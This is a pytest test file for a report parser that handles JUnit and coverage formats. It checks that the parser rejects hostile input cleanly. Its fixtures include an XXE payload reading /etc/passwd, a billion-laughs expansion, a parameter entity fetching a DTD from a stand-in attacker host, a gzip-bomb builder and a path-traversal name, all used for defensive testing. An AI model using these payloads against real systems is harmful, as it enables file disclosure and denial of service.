"""Hostile and broken input: every case is refused with a 4xx error of the project hierarchy."""

from __future__ import annotations

import contextlib
import gzip
import io
import random
import zlib
from pathlib import Path

import pytest

from common.errors import BadRequest, PayloadTooLarge
from results.parsers import (
    InvalidReport,
    ParseLimits,
    ReportTooLarge,
    parse_coverage,
    parse_junit,
)

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite name="&xxe;"><testcase name="a"/></testsuite>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<testsuites><testsuite name="&lol9;"/></testsuites>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<report name="r"/>
"""


def junit(data: bytes, limits: ParseLimits | None = None) -> object:
    return parse_junit(io.BytesIO(data), limits=limits)


@pytest.mark.parametrize(
    ("document", "parse", "line"),
    [
        (XXE, parse_junit, 2),
        (BILLION_LAUGHS, parse_junit, 3),
        (PARAMETER_ENTITY, parse_coverage, 2),
        (XXE.replace(b"testsuite", b"coverage"), parse_coverage, 2),
    ],
    ids=["xxe-junit", "billion-laughs", "parameter-entity", "xxe-coverage"],
)
def test_entity_declarations_are_refused(document: bytes, parse: object, line: int) -> None:
    assert callable(parse)
    with pytest.raises(InvalidReport) as caught:
        parse(io.BytesIO(document))
    error = caught.value
    assert isinstance(error, BadRequest)
    assert error.status == 400
    assert error.code == "invalid-report"
    assert error.reason == "entities-forbidden"
    assert "entity" in error.detail
    assert error.line == line


def test_external_dtd_is_tolerated_and_never_read(tmp_path: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY injected "from the DTD">')
    uri = dtd.as_uri().encode()
    tolerated = b'<!DOCTYPE testsuite SYSTEM "' + uri + b'"><testsuite name="s"/>'
    report = parse_junit(io.BytesIO(tolerated))
    assert any(d.code == "doctype-seen" for d in report.diagnostics)
    # Had the DTD been read, &injected; would expand. In an attribute expat drops the
    # unresolvable reference; in content it is refused as an undefined entity.
    in_attribute = b'<!DOCTYPE testsuite SYSTEM "' + uri + b'"><testsuite name="[&injected;]">'
    in_attribute += b'<testcase name="a"/></testsuite>'
    assert parse_junit(io.BytesIO(in_attribute)).cases[0].suite == "[]"
    in_content = b'<!DOCTYPE testsuite SYSTEM "' + uri + b'"><testsuite name="s">&injected;'
    in_content += b"</testsuite>"
    with pytest.raises(InvalidReport) as caught:
        parse_junit(io.BytesIO(in_content))
    assert caught.value.reason == "undefined-entity"


def gzip_bomb(prefix: bytes, filler: bytes, mebibytes: int) -> bytes:
    """``prefix`` then ``mebibytes`` MiB of ``filler``, gzip-compressed a thousandfold."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # wbits 31: the gzip container
    block = filler * ((1 << 20) // len(filler))
    parts = [compressor.compress(prefix)]
    parts += [compressor.compress(block) for _ in range(mebibytes)]
    return b"".join([*parts, compressor.flush()])


@pytest.mark.parametrize(
    ("prefix", "filler", "parse"),
    [
        (b"<testsuites>", b" ", parse_junit),
        (b"<report name='r'>", b"\n", parse_coverage),
        (b"mode: set\n", b" " * 1023 + b"\n", parse_coverage),
    ],
    ids=["junit", "jacoco", "go"],
)
def test_gzip_bomb_is_refused_by_decompressed_size(
    prefix: bytes, filler: bytes, parse: object
) -> None:
    assert callable(parse)
    bomb = gzip_bomb(prefix, filler, 16)
    assert len(bomb) < 50_000  # 16 MiB in well under 1 % of that
    with pytest.raises(ReportTooLarge) as caught:
        parse(io.BytesIO(bomb), limits=ParseLimits(max_bytes=1024 * 1024))
    assert isinstance(caught.value, PayloadTooLarge)
    assert caught.value.status == 413
    assert caught.value.code == "report-too-large"
    assert "after decompression" in caught.value.detail


def test_plain_input_over_the_byte_cap_is_refused() -> None:
    data = b'<testsuite name="s">' + b"<testcase name='a'/>" * 1000 + b"</testsuite>"
    with pytest.raises(ReportTooLarge):
        junit(data, ParseLimits(max_bytes=5000))
    with pytest.raises(ReportTooLarge):
        parse_coverage(
            io.BytesIO(b"SF:a\n" + b"DA:1,1\n" * 2000), limits=ParseLimits(max_bytes=5000)
        )


def test_corrupt_gzip_is_a_bad_request() -> None:
    packed = gzip.compress(b'<testsuite name="s"/>' * 100)
    with pytest.raises(InvalidReport) as caught:
        junit(packed[:30])
    assert caught.value.reason == "bad-gzip"
    with pytest.raises(InvalidReport):
        junit(packed[:10] + b"\xff" * 40 + packed[50:])


def test_deep_nesting_is_refused() -> None:
    depth = 10_000
    data = b"<testsuites>" + b"<x>" * depth + b"</x>" * depth + b"</testsuites>"
    with pytest.raises(InvalidReport) as caught:
        junit(data)
    assert caught.value.reason == "too-deep"
    with pytest.raises(InvalidReport):
        parse_coverage(io.BytesIO(b"<report>" + b"<group>" * 500), limits=ParseLimits(max_depth=50))


def test_too_many_elements_is_refused() -> None:
    data = b'<testsuite name="s">' + b"<testcase name='a'/>" * 200 + b"</testsuite>"
    with pytest.raises(ReportTooLarge) as caught:
        junit(data, ParseLimits(max_elements=100))
    assert caught.value.limit == 100


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b'<testsuite name="s">\n<testcase name="a">\n</testsuite>', 3),
        (b'<testsuite name="s">\n\n\n<testcase name="a" name="b"/></testsuite>', 4),
        (b'<testsuite name="s">\n<testcase name="a"/>\n', 3),
        (b"not xml at all", 1),
        (b"<testsuite>\n&undefined;</testsuite>", 2),
    ],
)
def test_malformed_xml_names_the_line(data: bytes, line: int) -> None:
    with pytest.raises(InvalidReport) as caught:
        junit(data)
    error = caught.value
    assert error.line == line
    assert f"line {line}" in error.detail
    assert error.extra["line"] == line
    assert error.to_problem(instance="/api/v1/ingest")["status"] == 400


def test_empty_input_is_malformed() -> None:
    with pytest.raises(InvalidReport) as caught:
        junit(b"")
    assert caught.value.reason == "malformed-xml"


def test_bad_numbers_in_coverage_xml_are_bad_requests_with_a_line() -> None:
    with pytest.raises(InvalidReport) as caught:
        parse_coverage(
            io.BytesIO(
                b'<report name="r">\n<package name="p"><sourcefile name="A">\n<line nr="x"/>'
            )
        )
    assert caught.value.reason == "bad-value"
    assert caught.value.line == 3


def test_path_traversal_names_are_just_names(tmp_path: Path) -> None:
    report = parse_junit(
        io.BytesIO(
            b'<testsuite name="s"><testcase classname="../secret-file" name="a"/></testsuite>'
        )
    )
    assert report.cases[0].classname == "../secret-file"
    assert list(tmp_path.iterdir()) == []


def test_giant_start_tag_is_refused_before_it_is_built() -> None:
    limits = ParseLimits(max_token_bytes=1024 * 1024, chunk_bytes=64 * 1024)
    giant_value = b'<testsuite name="s"><testcase name="' + b"x" * (3 << 20) + b'"/></testsuite>'
    with pytest.raises(ReportTooLarge) as caught:
        junit(giant_value, limits)
    assert "XML token" in caught.value.detail
    many_attributes = b"<report " + b"".join(b'a%d="1" ' % i for i in range(200_000)) + b"/>"
    with pytest.raises(ReportTooLarge):
        parse_coverage(io.BytesIO(many_attributes), limits=limits)


def test_long_text_is_not_a_giant_token() -> None:
    limits = ParseLimits(max_token_bytes=1024 * 1024, chunk_bytes=64 * 1024)
    text = b"log line\n" * 400_000  # 3.6 MB of text, kept only up to the output cap
    data = (
        b'<testsuite name="s"><properties>'
        + text
        + b'</properties><testcase name="a"><system-out>'
        + text
        + b"</system-out></testcase></testsuite>"
    )
    report = parse_junit(io.BytesIO(data), limits=limits)
    out = report.cases[0].system_out
    assert out is not None
    assert out.endswith("[… truncated: 3600000 characters in total]")


def test_unknown_encoding_is_a_bad_request() -> None:
    with pytest.raises(InvalidReport) as caught:
        junit(b'<?xml version="1.0" encoding="UTF-J"?><testsuite name="s"/>')
    assert caught.value.reason == "bad-encoding"


REFERENCE = Path(__file__).resolve().parents[2].parent / "shared" / "reference" / "results"
JUNKS: tuple[bytes, ...] = (
    b"<",
    b">",
    b"&",
    b'"',
    b"<x>",
    b"</testcase>",
    b"<testsuite>",
    b"\x00",
    b"&#0;",
)
JUNKS += (b"DA:", b",", b"\n", b"<line nr='-1'/>", b"<sourcefile name='x'>", b"\xff\xfe")


def mutations(data: bytes, seed: int, count: int) -> list[bytes]:
    """Truncations, flipped bytes and inserted markup, reproducibly."""
    rnd = random.Random(seed)
    out = []
    for _ in range(count):
        mutated = bytearray(data)
        roll = rnd.random()
        if roll < 0.3:
            mutated = mutated[: rnd.randrange(len(mutated))]
        elif roll < 0.7:
            for _ in range(rnd.randint(1, 5)):
                mutated[rnd.randrange(len(mutated))] = rnd.randrange(256)
        else:
            at = rnd.randrange(len(mutated))
            mutated[at:at] = rnd.choice(JUNKS)
        out.append(bytes(mutated))
    return out


@pytest.mark.parametrize("name", sorted(p.name for p in REFERENCE.glob("*.xml")))
def test_mutated_reports_parse_or_fail_cleanly(name: str) -> None:
    parse = parse_junit if name.startswith("junit") else parse_coverage
    for data in mutations((REFERENCE / name).read_bytes(), seed=len(name), count=150):
        # Anything but these two (KeyError, LookupError, ...) fails the test.
        with contextlib.suppress(InvalidReport, ReportTooLarge):
            parse(io.BytesIO(data))
